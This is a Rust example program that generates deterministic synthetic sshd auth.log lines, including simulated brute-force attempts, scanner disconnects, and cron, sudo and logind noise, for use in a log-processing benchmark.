//! Synthetic log generator for the benchmark (`bench/run.sh`).
//!
//! Writes a realistic, deterministic (given `--seed`) sshd `auth.log` or a web server access
//! log (combined format) of a requested size, so the benchmark needs no real data:
//!
//! ```text
//! cargo run --release --example genlog -- --kind auth --size 200M --out bench/data/auth.log
//! cargo run --release --example genlog -- --kind access --size 200M --out bench/data/access.log
//! ```
//!
//! Options: `--kind auth|access`, `--size N[K|M|G]` (binary units, like `head -c`),
//! `--out PATH` (default: stdout), `--seed N`, `--start YYYY-MM-DD` (UTC), `--days N` (time
//! span; time runs forward monotonically over it), `--ts classic|rfc3339` (auth.log prefix:
//! classic syslog `Nov 30 11:35:01` or rsyslog's high-precision RFC 3339), `--addresses N`
//! (size of the client address pool), `--host NAME`.
//!
//! What makes it realistic: clients are drawn from a heavy-tailed (Zipf-like) distribution
//! mixed with a uniform tail over a pool of distinct addresses (≈5 % IPv6, some IPv4 shown in
//! the `::ffff:` mapped form, a few private ones, neighbours in the same /24); sshd sessions
//! are multi-line sequences grouped by pid and interleaved like a busy server's, with the
//! wordings of current OpenSSH (program `sshd` first, `sshd-session` after an "upgrade" part
//! way through), plus the usual CRON, sudo and systemd-logind noise.
//!
//! Only the standard library is used; the random generator is a small wyrand.

use std::collections::HashSet;
use std::fmt::Write as _;
use std::fs::File;
use std::io::{self, BufWriter, Write};
use std::net::{Ipv4Addr, Ipv6Addr};
use std::process::ExitCode;

/// Small, fast, seedable pseudo-random generator (wyrand).
struct Rng(u64);

impl Rng {
    fn new(seed: u64) -> Self {
        // Mix the seed so that seeds 1, 2, 3… give unrelated streams.
        let mut r = Rng(seed ^ 0x9E37_79B9_7F4A_7C15);
        r.next_u64();
        r
    }

    fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0xA076_1D64_78BD_642F);
        let t = u128::from(self.0) * u128::from(self.0 ^ 0xE703_7ED1_A0B4_28DB);
        ((t >> 64) ^ t) as u64
    }

    /// Uniform in `0..n` (`n > 0`).
    fn below(&mut self, n: u64) -> u64 {
        ((u128::from(self.next_u64()) * u128::from(n)) >> 64) as u64
    }

    /// Uniform in `lo..=hi`.
    fn range(&mut self, lo: u64, hi: u64) -> u64 {
        lo + self.below(hi - lo + 1)
    }

    /// Uniform in `[0, 1)`.
    fn unit(&mut self) -> f64 {
        (self.next_u64() >> 11) as f64 / (1u64 << 53) as f64
    }

    fn chance(&mut self, p: f64) -> bool {
        self.unit() < p
    }

    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }

    /// Exponentially distributed with the given mean.
    fn exp(&mut self, mean: f64) -> f64 {
        -mean * (1.0 - self.unit()).ln()
    }

    /// Index into `weights` chosen with probability proportional to its weight.
    fn weighted(&mut self, weights: &[u32]) -> usize {
        let total: u32 = weights.iter().sum();
        let mut x = self.below(u64::from(total)) as u32;
        for (i, w) in weights.iter().enumerate() {
            if x < *w {
                return i;
            }
            x -= w;
        }
        weights.len() - 1
    }
}

#[derive(Clone, Copy, PartialEq)]
enum Kind {
    Auth,
    Access,
}

#[derive(Clone, Copy, PartialEq)]
enum TsStyle {
    Classic,
    Rfc3339,
}

struct Opts {
    kind: Kind,
    size: u64,
    out: Option<String>,
    seed: u64,
    start_days: i64,
    days: f64,
    ts: TsStyle,
    addresses: usize,
    host: String,
}

const USAGE: &str = "usage: genlog --kind auth|access [--size 20M] [--out PATH] [--seed N] \
[--start YYYY-MM-DD] [--days N] [--ts classic|rfc3339] [--addresses N] [--host NAME]";

fn parse_size(s: &str) -> Option<u64> {
    let s = s.trim();
    let (num, mult) = match s.char_indices().last()? {
        (i, 'K' | 'k') => (&s[..i], 1u64 << 10),
        (i, 'M' | 'm') => (&s[..i], 1 << 20),
        (i, 'G' | 'g') => (&s[..i], 1 << 30),
        _ => (s, 1),
    };
    num.parse::<u64>().ok()?.checked_mul(mult)
}

/// Days since 1970-01-01 for a proleptic Gregorian date (Hinnant's `days_from_civil`).
fn days_from_civil(y: i64, m: u32, d: u32) -> i64 {
    let y = if m <= 2 { y - 1 } else { y };
    let era = y.div_euclid(400);
    let yoe = y - era * 400;
    let m = i64::from(m);
    let doy = (153 * (if m > 2 { m - 3 } else { m + 9 }) + 2) / 5 + i64::from(d) - 1;
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    era * 146_097 + doe - 719_468
}

/// (year, month 1-12, day 1-31) for days since 1970-01-01.
fn civil_from_days(z: i64) -> (i64, u32, u32) {
    let z = z + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = (doy - (153 * mp + 2) / 5 + 1) as u32;
    let m = if mp < 10 { mp + 3 } else { mp - 9 } as u32;
    let y = yoe + era * 400 + i64::from(m <= 2);
    (y, m, d)
}

fn parse_date(s: &str) -> Option<i64> {
    let mut it = s.split('-');
    let y: i64 = it.next()?.parse().ok()?;
    let m: u32 = it.next()?.parse().ok()?;
    let d: u32 = it.next()?.parse().ok()?;
    if it.next().is_some() || !(1..=12).contains(&m) || !(1..=31).contains(&d) {
        return None;
    }
    Some(days_from_civil(y, m, d))
}

fn parse_args() -> Result<Opts, String> {
    let mut o = Opts {
        kind: Kind::Auth,
        size: 20 << 20,
        out: None,
        seed: 1,
        start_days: days_from_civil(2026, 11, 2),
        days: 28.0,
        ts: TsStyle::Classic,
        addresses: 200_000,
        host: "web-01".to_string(),
    };
    let mut args = std::env::args().skip(1);
    while let Some(a) = args.next() {
        if a == "-h" || a == "--help" {
            return Err(String::new());
        }
        let v = args.next().ok_or_else(|| format!("{a} needs a value"))?;
        let bad = || format!("bad value for {a}: {v:?}");
        match a.as_str() {
            "--kind" => {
                o.kind = match v.as_str() {
                    "auth" => Kind::Auth,
                    "access" => Kind::Access,
                    _ => return Err(bad()),
                }
            }
            "--size" => o.size = parse_size(&v).ok_or_else(bad)?,
            "--out" => o.out = Some(v),
            "--seed" => o.seed = v.parse().map_err(|_| bad())?,
            "--start" => o.start_days = parse_date(&v).ok_or_else(bad)?,
            "--days" => {
                o.days = v.parse().map_err(|_| bad())?;
                if !(o.days > 0.0 && o.days < 3650.0) {
                    return Err(bad());
                }
            }
            "--ts" => {
                o.ts = match v.as_str() {
                    "classic" => TsStyle::Classic,
                    "rfc3339" => TsStyle::Rfc3339,
                    _ => return Err(bad()),
                }
            }
            "--addresses" => {
                o.addresses = v.parse().map_err(|_| bad())?;
                if o.addresses < 10 || o.addresses > 50_000_000 {
                    return Err(bad());
                }
            }
            "--host" => o.host = v,
            _ => return Err(format!("unknown option {a}")),
        }
    }
    Ok(o)
}

// ---------------------------------------------------------------------------------------------
// Address pool

/// True for IPv4 ranges that never appear as public clients.
fn is_special_v4(a: u32) -> bool {
    let o = a.to_be_bytes();
    matches!(o[0], 0 | 10 | 127)
        || o[0] >= 224
        || (o[0] == 100 && (o[1] & 0xC0) == 64)
        || (o[0] == 169 && o[1] == 254)
        || (o[0] == 172 && (o[1] & 0xF0) == 16)
        || (o[0] == 192 && o[1] == 168)
        || (o[0] == 192 && o[1] == 0 && (o[2] == 0 || o[2] == 2))
        || (o[0] == 198 && (o[1] & 0xFE) == 18)
        || (o[0] == 198 && o[1] == 51 && o[2] == 100)
        || (o[0] == 203 && o[1] == 0 && o[2] == 113)
}

/// Real, routed IPv6 allocations of hosting and access providers (first two or three groups).
const V6_PREFIXES: &[[u16; 3]] = &[
    [0x2001, 0x41d0, 0x0000], // OVH
    [0x2a01, 0x04f8, 0x0000], // Hetzner
    [0x2604, 0xa880, 0x0000], // DigitalOcean
    [0x2a03, 0xb0c0, 0x0000], // DigitalOcean EU
    [0x2400, 0x6180, 0x0000], // DigitalOcean SG
    [0x2001, 0x0bc8, 0x0000], // Scaleway
    [0x2406, 0xda18, 0x0000], // AWS ap-southeast
    [0x2600, 0x1f18, 0x0000], // AWS us-east
    [0x240e, 0x0000, 0x0000], // China Telecom
    [0x2409, 0x8a00, 0x0000], // China Mobile
    [0x2a02, 0xc207, 0x0000], // Contabo
    [0x2a05, 0xd014, 0x0000], // Fastly-ish
    [0x2602, 0xff16, 0x0000], // Vultr-ish
    [0x2a0e, 0x0b10, 0x0000], // misc RIPE
];

/// How an address is written in the log.
struct Pool {
    /// Text form of each address, by rank (rank 0 is the busiest).
    text: Vec<String>,
    /// Cumulative Zipf weights, for sampling by rank.
    cdf: Vec<f64>,
}

impl Pool {
    fn new(rng: &mut Rng, n: usize, zipf_s: f64) -> Pool {
        let mut seen: HashSet<String> = HashSet::with_capacity(n);
        let mut text = Vec::with_capacity(n);
        let mut last_v4: u32 = loop {
            let a = rng.next_u64() as u32;
            if !is_special_v4(a) {
                break a;
            }
        };
        while text.len() < n {
            let r = rng.unit();
            let s = if r < 0.05 {
                let p = rng.pick(V6_PREFIXES);
                let mut g = [0u16; 8];
                g[0] = p[0];
                g[1] = if p[1] == 0 {
                    rng.below(0x10000) as u16
                } else {
                    p[1]
                };
                g[2] = if p[2] == 0 {
                    rng.below(0x10000) as u16
                } else {
                    p[2]
                };
                g[3] = rng.below(0x100) as u16;
                if rng.chance(0.5) {
                    // Hosting style: ::N or ::XXXX (mostly zeros in the interface id).
                    g[7] = rng.range(1, 0xFFFF) as u16;
                } else {
                    // SLAAC / privacy address: random interface id.
                    for x in &mut g[4..8] {
                        *x = rng.below(0x10000) as u16;
                    }
                }
                Ipv6Addr::new(g[0], g[1], g[2], g[3], g[4], g[5], g[6], g[7]).to_string()
            } else if r < 0.052 {
                // A few private ones: an internal scanner or a misconfigured NAT.
                let a = match rng.below(3) {
                    0 => Ipv4Addr::new(
                        10,
                        rng.below(256) as u8,
                        rng.below(256) as u8,
                        rng.range(1, 254) as u8,
                    ),
                    1 => Ipv4Addr::new(
                        172,
                        rng.range(16, 31) as u8,
                        rng.below(256) as u8,
                        rng.range(1, 254) as u8,
                    ),
                    _ => Ipv4Addr::new(192, 168, rng.below(256) as u8, rng.range(1, 254) as u8),
                };
                a.to_string()
            } else {
                let a = if rng.chance(0.2) {
                    // A neighbour in the same /24 (botnets rent whole ranges).
                    (last_v4 & 0xFFFF_FF00) | rng.range(1, 254) as u32
                } else {
                    loop {
                        let a = rng.next_u64() as u32;
                        if !is_special_v4(a) {
                            break a;
                        }
                    }
                };
                last_v4 = a;
                let a = Ipv4Addr::from(a);
                if rng.chance(0.03) {
                    format!("::ffff:{a}")
                } else {
                    a.to_string()
                }
            };
            if seen.insert(s.clone()) {
                text.push(s);
            }
        }
        let mut cdf = Vec::with_capacity(n);
        let mut acc = 0.0;
        for rank in 0..n {
            acc += 1.0 / ((rank + 1) as f64).powf(zipf_s);
            cdf.push(acc);
        }
        Pool { text, cdf }
    }

    /// A rank: 60 % from the Zipf head, 40 % uniform over the pool (the long tail of
    /// one-off scanners).
    fn sample(&self, rng: &mut Rng) -> usize {
        if rng.chance(0.6) {
            let total = self.cdf[self.cdf.len() - 1];
            let x = rng.unit() * total;
            self.cdf.partition_point(|&c| c < x).min(self.cdf.len() - 1)
        } else {
            rng.below(self.text.len() as u64) as usize
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Timestamps

const MONTHS: [&str; 12] = [
    "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
];

/// Seconds since the epoch (fractional) → parts.
fn split_time(t: f64) -> (i64, u32, u32, u32, u32, u32, u32) {
    let secs = t.floor() as i64;
    let micros = ((t - t.floor()) * 1e6) as u32;
    let days = secs.div_euclid(86_400);
    let sod = secs.rem_euclid(86_400) as u32;
    let (y, m, d) = civil_from_days(days);
    (
        y,
        m,
        d,
        sod / 3600,
        sod / 60 % 60,
        sod % 60,
        micros.min(999_999),
    )
}

fn write_syslog_ts(buf: &mut String, t: f64, style: TsStyle) {
    let (y, mo, d, h, mi, s, us) = split_time(t);
    match style {
        TsStyle::Classic => {
            let _ = write!(
                buf,
                "{} {d:>2} {h:02}:{mi:02}:{s:02}",
                MONTHS[mo as usize - 1]
            );
        }
        TsStyle::Rfc3339 => {
            let _ = write!(
                buf,
                "{y:04}-{mo:02}-{d:02}T{h:02}:{mi:02}:{s:02}.{us:06}+00:00"
            );
        }
    }
}

fn write_clf_ts(buf: &mut String, t: f64) {
    let (y, mo, d, h, mi, s, _) = split_time(t);
    let _ = write!(
        buf,
        "[{d:02}/{}/{y:04}:{h:02}:{mi:02}:{s:02} +0000]",
        MONTHS[mo as usize - 1]
    );
}

// ---------------------------------------------------------------------------------------------
// auth.log

const COMMON_USERS: &[&str] = &[
    "admin",
    "test",
    "user",
    "ubuntu",
    "oracle",
    "postgres",
    "git",
    "guest",
    "ftpuser",
    "deploy",
    "pi",
    "centos",
    "ec2-user",
    "support",
    "nagios",
    "hadoop",
    "mysql",
    "www",
    "www-data",
    "jenkins",
    "tomcat",
    "minecraft",
    "steam",
    "ts3",
    "dev",
    "developer",
    "ansible",
    "docker",
    "elastic",
    "es",
    "kafka",
    "redis",
    "odoo",
    "sftp",
    "administrator",
    "user1",
    "test1",
    "testuser",
    "debian",
    "vagrant",
    "zabbix",
    "solana",
    "sol",
    "validator",
    "node",
    "ubnt",
    "admin1",
    "manager",
    "student",
    "demo",
    "backup",
    "operator",
    "server",
    "ftp",
    "web",
    "mongodb",
    "gitlab",
    "oscar",
    "alex",
    "john",
    "david",
    "michael",
    "jboss",
    "teamspeak",
];

/// Accounts that exist on the generated host (sshd says "for U", not "for invalid user U").
const VALID_USERS: &[&str] = &[
    "root", "alice", "bob", "deploy", "postgres", "www-data", "backup",
];

/// People who really log in, from the admin network.
const LEGIT: &[(&str, &str)] = &[
    ("alice", "192.168.1.23"),
    ("bob", "10.8.0.6"),
    ("deploy", "49.12.77.140"), // a CI runner at a hosting provider
    ("alice", "2a01:4f8:c0c:1234::2"),
];

const KEX_OFFERS: &[&str] = &[
    "no matching key exchange method found. Their offer: diffie-hellman-group14-sha1,diffie-hellman-group-exchange-sha1,diffie-hellman-group1-sha1",
    "no matching host key type found. Their offer: ssh-rsa,ssh-dss",
    "no matching key exchange method found. Their offer: diffie-hellman-group1-sha1,diffie-hellman-group14-sha1,kex-strict-c-v00@openssh.com",
    "no matching cipher found. Their offer: aes128-cbc,3des-cbc,aes192-cbc,aes256-cbc",
];

const SUDO_CMDS: &[&str] = &[
    "/usr/bin/apt update",
    "/usr/bin/apt upgrade -y",
    "/usr/bin/systemctl restart nginx",
    "/usr/bin/journalctl -u ssh --since today",
    "/usr/bin/tail -n 200 /var/log/auth.log",
    "/usr/sbin/ufw status",
];

fn random_user(rng: &mut Rng) -> String {
    let r = rng.unit();
    if r < 0.42 {
        "root".to_string()
    } else if r < 0.85 {
        rng.pick(COMMON_USERS).to_string()
    } else {
        let mut s = String::new();
        let len = rng.range(3, 8);
        for _ in 0..len {
            s.push((b'a' + rng.below(26) as u8) as char);
        }
        if rng.chance(0.3) {
            let _ = write!(s, "{}", rng.below(1000));
        }
        s
    }
}

fn hex_fp(rng: &mut Rng) -> String {
    // SHA256 fingerprints are 43 base64 characters.
    const B64: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    (0..43)
        .map(|_| B64[rng.below(64) as usize] as char)
        .collect()
}

/// One pending log line of a session: delay after the previous line, program, message.
struct Step {
    delay: f64,
    prog: Prog,
    msg: String,
}

#[derive(Clone, Copy)]
enum Prog {
    /// sshd, or sshd-session after the upgrade (per-connection messages).
    Ssh,
    /// The listener: always `sshd`.
    Listener,
    Cron,
    Logind,
    Sudo,
}

struct Session {
    pid: u32,
    session_prog: &'static str,
    next: f64,
    steps: std::collections::VecDeque<Step>,
}

struct AuthGen {
    rng: Rng,
    pool: Pool,
    next_pid: u32,
    logind_pid: u32,
    login_session: u32,
}

impl AuthGen {
    fn pid(&mut self) -> u32 {
        self.next_pid += self.rng.range(1, 40) as u32;
        if self.next_pid > 4_194_000 {
            self.next_pid = 1000 + self.rng.below(5000) as u32;
        }
        self.next_pid
    }

    fn port(&mut self) -> u16 {
        self.rng.range(1024, 65_535) as u16
    }

    /// A whole connection (or a cron/sudo job), as steps.
    fn session(&mut self) -> Vec<Step> {
        let mut v = Vec::with_capacity(12);
        let ssh = |delay: f64, msg: String| Step {
            delay,
            prog: Prog::Ssh,
            msg,
        };
        let kind = self.rng.weighted(&[
            400, // password brute force
            140, // preauth closed / reset (scanner)
            60,  // did not receive identification / banner garbage
            50,  // unable to negotiate
            30,  // keyboard-interactive / PAM failure
            20,  // not allowed / refused
            1,   // legit publickey login
            3,   // cron
            1,   // sudo
            10,  // penalty drop (listener), timeout
            10,  // reverse mapping
        ]);
        let rank = self.pool.sample(&mut self.rng);
        let ip = self.pool.text[rank].clone();
        let port = self.port();
        match kind {
            0 => {
                let user = random_user(&mut self.rng);
                let valid = VALID_USERS.contains(&user.as_str());
                let inv = if valid { "" } else { "invalid user " };
                // Heavy-tailed attempts per connection: most bots try 1–3, some max out.
                let attempts = self.rng.weighted(&[45, 20, 10, 5, 5, 15]) + 1;
                if !valid {
                    v.push(ssh(
                        0.0,
                        format!("Invalid user {user} from {ip} port {port}"),
                    ));
                }
                let mut t = self.rng.exp(1.5);
                if self.rng.chance(0.3) {
                    v.push(ssh(
                        t,
                        "pam_unix(sshd:auth): check pass; user unknown".to_string(),
                    ));
                    t = 0.0;
                }
                let rhost_user = if valid {
                    format!("  user={user}")
                } else {
                    String::new()
                };
                v.push(ssh(
                    t,
                    format!(
                        "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}{rhost_user}"
                    ),
                ));
                let failed = format!("Failed password for {inv}{user} from {ip} port {port} ssh2");
                v.push(ssh(self.rng.exp(2.0), failed.clone()));
                let mut left = attempts - 1;
                while left > 0 {
                    if left >= 2 && self.rng.chance(0.35) {
                        // rsyslog's duplicate suppression.
                        let n = self.rng.range(2, left as u64) as usize;
                        v.push(ssh(
                            self.rng.exp(6.0),
                            format!("message repeated {n} times: [ {failed}]"),
                        ));
                        left -= n;
                    } else {
                        v.push(ssh(self.rng.exp(2.5), failed.clone()));
                        left -= 1;
                    }
                }
                let d = self.rng.exp(0.5);
                if attempts == 6 {
                    v.push(ssh(
                        d,
                        format!(
                            "error: maximum authentication attempts exceeded for {inv}{user} from {ip} port {port} ssh2 [preauth]"
                        ),
                    ));
                    v.push(ssh(
                        0.0,
                        format!(
                            "Disconnecting {}{user} {ip} port {port}: Too many authentication failures [preauth]", if valid { "authenticating user " } else { "invalid user " }
                        ),
                    ));
                    v.push(ssh(
                        0.0,
                        format!(
                            "PAM 5 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}{rhost_user}"
                        ),
                    ));
                } else if self.rng.chance(0.6) {
                    v.push(ssh(
                        d,
                        format!("Received disconnect from {ip} port {port}:11: Bye Bye [preauth]"),
                    ));
                    let who = if valid {
                        "authenticating user "
                    } else {
                        "invalid user "
                    };
                    v.push(ssh(
                        0.0,
                        format!("Disconnected from {who}{user} {ip} port {port} [preauth]"),
                    ));
                    if attempts > 1 {
                        v.push(ssh(
                            0.0,
                            format!(
                                "PAM {} more authentication failure{}; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}{rhost_user}",
                                attempts - 1,
                                if attempts - 1 == 1 { "" } else { "s" }
                            ),
                        ));
                    }
                } else {
                    let who = if valid {
                        "authenticating user "
                    } else {
                        "invalid user "
                    };
                    let how = if self.rng.chance(0.8) {
                        "closed"
                    } else {
                        "reset"
                    };
                    v.push(ssh(
                        d,
                        format!("Connection {how} by {who}{user} {ip} port {port} [preauth]"),
                    ));
                }
                // Rarely, a weak password falls.
                if user == "root" && self.rng.chance(0.0005) {
                    let p2 = self.port();
                    v.push(ssh(
                        self.rng.exp(30.0),
                        format!("Accepted password for root from {ip} port {p2} ssh2"),
                    ));
                    v.push(ssh(
                        0.0,
                        "pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)"
                            .to_string(),
                    ));
                    v.push(ssh(
                        self.rng.exp(20.0),
                        format!("Received disconnect from {ip} port {p2}:11: disconnected by user"),
                    ));
                    v.push(ssh(
                        0.0,
                        format!("Disconnected from user root {ip} port {p2}"),
                    ));
                    v.push(ssh(
                        0.0,
                        "pam_unix(sshd:session): session closed for user root".to_string(),
                    ));
                }
            }
            1 => {
                let msg = match self.rng.below(4) {
                    0 => format!("Connection reset by {ip} port {port} [preauth]"),
                    1 => {
                        let u = random_user(&mut self.rng);
                        let who = if VALID_USERS.contains(&u.as_str()) {
                            "authenticating user"
                        } else {
                            "invalid user"
                        };
                        format!("Connection closed by {who} {u} {ip} port {port} [preauth]")
                    }
                    _ => format!("Connection closed by {ip} port {port} [preauth]"),
                };
                v.push(ssh(0.0, msg));
            }
            2 => match self.rng.below(4) {
                0 => v.push(ssh(
                    0.0,
                    format!("Did not receive identification string from {ip} port {port}"),
                )),
                1 => {
                    v.push(ssh(
                        0.0,
                        "error: kex_exchange_identification: Connection closed by remote host"
                            .to_string(),
                    ));
                    v.push(ssh(0.0, format!("Connection closed by {ip} port {port}")));
                }
                2 => {
                    v.push(ssh(0.0, "error: kex_exchange_identification: banner line contains invalid characters".to_string()));
                    v.push(ssh(
                        0.0,
                        format!(
                            "banner exchange: Connection from {ip} port {port}: invalid format"
                        ),
                    ));
                }
                _ => v.push(ssh(
                    0.0,
                    "error: kex_exchange_identification: read: Connection reset by peer"
                        .to_string(),
                )),
            },
            3 => {
                let offer = self.rng.pick(KEX_OFFERS);
                v.push(ssh(
                    0.0,
                    format!("Unable to negotiate with {ip} port {port}: {offer} [preauth]"),
                ));
            }
            4 => {
                let user = random_user(&mut self.rng);
                let valid = VALID_USERS.contains(&user.as_str());
                let inv = if valid { "" } else { "invalid user " };
                if !valid {
                    v.push(ssh(
                        0.0,
                        format!("Invalid user {user} from {ip} port {port}"),
                    ));
                }
                v.push(ssh(
                    self.rng.exp(2.0),
                    format!("error: PAM: Authentication failure for {inv}{user} from {ip}"),
                ));
                v.push(ssh(
                    0.0,
                    format!(
                        "Failed keyboard-interactive/pam for {inv}{user} from {ip} port {port} ssh2"
                    ),
                ));
                v.push(ssh(
                    self.rng.exp(1.0),
                    format!(
                        "Connection closed by {}{user} {ip} port {port} [preauth]",
                        if valid {
                            "authenticating user "
                        } else {
                            "invalid user "
                        }
                    ),
                ));
            }
            5 => {
                if self.rng.chance(0.5) {
                    let user = *self.rng.pick(&["root", "postgres", "www-data", "backup"]);
                    v.push(ssh(
                        0.0,
                        format!(
                            "User {user} from {ip} not allowed because not listed in AllowUsers"
                        ),
                    ));
                    v.push(ssh(
                        self.rng.exp(2.0),
                        format!(
                            "Failed password for invalid user {user} from {ip} port {port} ssh2"
                        ),
                    ));
                    v.push(ssh(
                        self.rng.exp(1.0),
                        format!(
                            "Connection closed by invalid user {user} {ip} port {port} [preauth]"
                        ),
                    ));
                } else {
                    v.push(ssh(
                        0.0,
                        format!("ROOT LOGIN REFUSED FROM {ip} port {port}"),
                    ));
                    v.push(ssh(self.rng.exp(1.0), format!("Connection closed by authenticating user root {ip} port {port} [preauth]")));
                }
            }
            6 => {
                let (user, from) = *self.rng.pick(LEGIT);
                let uid = 1000 + VALID_USERS.iter().position(|u| *u == user).unwrap_or(0);
                let fp = hex_fp(&mut self.rng);
                self.login_session += 1;
                let sid = self.login_session;
                let lpid = self.logind_pid;
                v.push(ssh(0.0, format!("Accepted publickey for {user} from {from} port {port} ssh2: ED25519 SHA256:{fp}")));
                v.push(ssh(0.0, format!("pam_unix(sshd:session): session opened for user {user}(uid={uid}) by (uid=0)")));
                v.push(Step {
                    delay: 0.0,
                    prog: Prog::Logind,
                    msg: format!("[{lpid}] New session {sid} of user {user}."),
                });
                if self.rng.chance(0.5) {
                    let cmd = self.rng.pick(SUDO_CMDS);
                    v.push(Step {
                        delay: self.rng.exp(60.0),
                        prog: Prog::Sudo,
                        msg: format!(
                            "   {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND={cmd}"
                        ),
                    });
                    v.push(Step { delay: 0.0, prog: Prog::Sudo, msg: format!("pam_unix(sudo:session): session opened for user root(uid=0) by {user}(uid={uid})") });
                    v.push(Step {
                        delay: self.rng.exp(5.0),
                        prog: Prog::Sudo,
                        msg: "pam_unix(sudo:session): session closed for user root".to_string(),
                    });
                }
                v.push(ssh(
                    self.rng.exp(900.0),
                    format!("Received disconnect from {from} port {port}:11: disconnected by user"),
                ));
                v.push(ssh(
                    0.0,
                    format!("Disconnected from user {user} {from} port {port}"),
                ));
                v.push(ssh(
                    0.0,
                    format!("pam_unix(sshd:session): session closed for user {user}"),
                ));
                v.push(Step {
                    delay: 0.0,
                    prog: Prog::Logind,
                    msg: format!(
                        "[{lpid}] Session {sid} logged out. Waiting for processes to exit."
                    ),
                });
                v.push(Step {
                    delay: 0.0,
                    prog: Prog::Logind,
                    msg: format!("[{lpid}] Removed session {sid}."),
                });
            }
            7 => {
                v.push(Step {
                    delay: 0.0,
                    prog: Prog::Cron,
                    msg:
                        "pam_unix(cron:session): session opened for user root(uid=0) by root(uid=0)"
                            .to_string(),
                });
                v.push(Step {
                    delay: self.rng.exp(2.0),
                    prog: Prog::Cron,
                    msg: "pam_unix(cron:session): session closed for user root".to_string(),
                });
            }
            8 => {
                let user = "alice";
                let cmd = self.rng.pick(SUDO_CMDS);
                v.push(Step {
                    delay: 0.0,
                    prog: Prog::Sudo,
                    msg: format!(
                        "   {user} : TTY=pts/1 ; PWD=/home/{user} ; USER=root ; COMMAND={cmd}"
                    ),
                });
                v.push(Step { delay: 0.0, prog: Prog::Sudo, msg: format!("pam_unix(sudo:session): session opened for user root(uid=0) by {user}(uid=1001)") });
                v.push(Step {
                    delay: self.rng.exp(3.0),
                    prog: Prog::Sudo,
                    msg: "pam_unix(sudo:session): session closed for user root".to_string(),
                });
            }
            9 => {
                if self.rng.chance(0.5) {
                    let bracketed = format!("[{}]", ip.trim_start_matches("::ffff:"));
                    let why = if self.rng.chance(0.5) {
                        "failed authentication"
                    } else {
                        "exceeded LoginGraceTime"
                    };
                    v.push(Step { delay: 0.0, prog: Prog::Listener, msg: format!("drop connection #{} from {bracketed}:{port} on [10.0.0.5]:22 penalty: {why}", self.rng.below(10)) });
                } else {
                    v.push(ssh(
                        0.0,
                        format!("Timeout before authentication for {ip} port {port}"),
                    ));
                }
            }
            _ => {
                let host = format!("{}.static.example-hosting.net", ip.replace([':', '.'], "-"));
                v.push(ssh(0.0, format!("Address {ip} maps to {host}, but this does not map back to the address [preauth]")));
                v.push(ssh(
                    self.rng.exp(1.0),
                    format!("Connection closed by {ip} port {port} [preauth]"),
                ));
            }
        }
        v
    }
}

fn gen_auth(o: &Opts, out: &mut impl Write) -> io::Result<u64> {
    let mut rng = Rng::new(o.seed);
    let pool = Pool::new(&mut rng, o.addresses, 1.1);
    let mut g = AuthGen {
        rng,
        pool,
        next_pid: 1200,
        logind_pid: 612,
        login_session: 1,
    };
    let start = o.start_days as f64 * 86_400.0;
    let span = o.days * 86_400.0;
    let mut now = start;
    let mut written: u64 = 0;
    let mut active: Vec<Session> = Vec::new();
    let mut line = String::with_capacity(512);
    let host = o.host.clone();
    let mut next_cron = start + 60.0;
    while written < o.size {
        let target = start + span * (written as f64 / o.size as f64);
        let min_next = active.iter().map(|s| s.next).fold(f64::INFINITY, f64::min);
        if active.len() < 2 || (min_next > target && active.len() < 64) {
            let steps = g.session();
            let begin = now.max(target);
            // The "upgrade" to OpenSSH ≥ 9.8 (per-connection process `sshd-session`) happens
            // 60 % of the way through.
            let session_prog = if target - start < span * 0.6 {
                "sshd"
            } else {
                "sshd-session"
            };
            let pid = g.pid();
            let mut steps: std::collections::VecDeque<Step> = steps.into();
            let first = steps.front().map(|s| s.delay).unwrap_or(0.0);
            if let Some(f) = steps.front_mut() {
                f.delay = 0.0;
            }
            active.push(Session {
                pid,
                session_prog,
                next: begin + first,
                steps,
            });
            continue;
        }
        // Hourly-ish cron noise keeps the clock honest even on a quiet log.
        if next_cron <= min_next {
            let pid = g.pid();
            for msg in [
                "pam_unix(cron:session): session opened for user root(uid=0) by root(uid=0)",
                "pam_unix(cron:session): session closed for user root",
            ] {
                now = now.max(next_cron);
                line.clear();
                write_syslog_ts(&mut line, now, o.ts);
                let _ = writeln!(line, " {host} CRON[{pid}]: {msg}");
                out.write_all(line.as_bytes())?;
                written += line.len() as u64;
            }
            next_cron += 3600.0 / 6.0 + g.rng.exp(60.0);
            continue;
        }
        let i = active
            .iter()
            .enumerate()
            .min_by(|a, b| a.1.next.total_cmp(&b.1.next))
            .map(|(i, _)| i)
            .unwrap_or(0);
        let s = &mut active[i];
        let Some(step) = s.steps.pop_front() else {
            active.swap_remove(i);
            continue;
        };
        now = now.max(s.next);
        line.clear();
        write_syslog_ts(&mut line, now, o.ts);
        let _ = match step.prog {
            Prog::Ssh => writeln!(line, " {host} {}[{}]: {}", s.session_prog, s.pid, step.msg),
            Prog::Listener => writeln!(line, " {host} sshd[{}]: {}", 884, step.msg),
            Prog::Cron => writeln!(line, " {host} CRON[{}]: {}", s.pid, step.msg),
            Prog::Logind => {
                // The message carries the logind pid in brackets; split it back out.
                let (pid, msg) = step.msg.split_once("] ").unwrap_or(("[0", &step.msg));
                writeln!(line, " {host} systemd-logind{pid}]: {msg}")
            }
            Prog::Sudo => writeln!(line, " {host} sudo: {}", step.msg),
        };
        out.write_all(line.as_bytes())?;
        written += line.len() as u64;
        match s.steps.front() {
            Some(n) => s.next = now + n.delay,
            None => {
                active.swap_remove(i);
            }
        }
    }
    Ok(written)
}

